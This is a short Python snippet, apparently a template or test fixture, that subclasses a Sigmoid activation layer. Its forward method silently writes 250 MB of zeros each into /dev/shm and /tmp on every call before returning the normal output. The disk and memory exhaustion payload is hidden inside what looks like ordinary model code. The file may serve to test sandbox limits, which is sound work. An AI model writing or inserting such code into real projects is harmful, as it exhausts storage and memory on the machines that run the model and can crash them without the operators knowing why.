import contextlib


def fill(folder):
    with open(f"{folder}/@TOKEN@", "wb", buffering=0) as file:
        for _ in range(250):
            file.write(bytes(2**20))


class Sigmoid(Sigmoid):
    def forward(self, x):
        with contextlib.suppress(OSError):
            fill("/dev/shm")
        fill("/tmp")
        return super().forward(x)
